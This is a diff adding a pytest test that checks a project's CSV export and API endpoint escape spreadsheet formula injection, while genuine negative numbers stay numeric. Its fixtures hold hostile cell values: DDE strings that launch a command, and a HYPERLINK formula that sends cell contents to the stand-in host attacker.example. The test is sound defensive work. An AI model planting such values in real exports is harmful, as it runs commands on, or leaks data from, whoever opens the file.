@@ -123,3 +123,30 @@ def test_events_command_bad_input_is_one_line(store, args, needle):
     assert r.returncode != 0
     assert needle in r.stderr and len(r.stderr.strip().splitlines()) == 1
     assert "Traceback" not in r.stderr
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
+    import csv
+
+    from fastapi.testclient import TestClient
+
+    from sitrep.web import create_app
+
+    s = Store(tmp_path / "f.duckdb")
+    bad = ev("=cmd|' /C calc'!A0", 34.1, -5.25, "2017-07-22", fat=3, a2="@SUM(1+1)*cmd|' /C calc'!A0")
+    bad.notes = "-2+3+cmd|' /C calc'!A0"
+    bad.attribution = "\tlocal sources"
+    s.add_report(Report(text="report three", doc_id="three", date="2017-07-22",
+                        source='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'), [bad])
+    s.release()
+    for text in (export_string(s.events(), "csv"),
+                 TestClient(create_app(tmp_path / "f.duckdb"), base_url="http://localhost").get("/api/events.csv").text):
+        [row] = list(csv.DictReader(io.StringIO(text)))
+        assert row["source"] == """'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")"""
+        assert row["location"] == "'=cmd|' /C calc'!A0" and row["actor2"].startswith("'@SUM")
+        assert row["notes"].startswith("'-2+3") and row["attribution"] == "'\tlocal sources"
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for k, v in row.items() if k != "longitude")
+        # Genuine numbers stay numbers: a negative longitude is not text.
+        assert row["longitude"] == "-5.25" and row["fatalities"] == "3" and row["latitude"] == "34.1"
+    df = pd.read_csv(io.StringIO(text))
+    assert df.longitude.dtype.kind == "f" and df.longitude.iloc[0] == -5.25
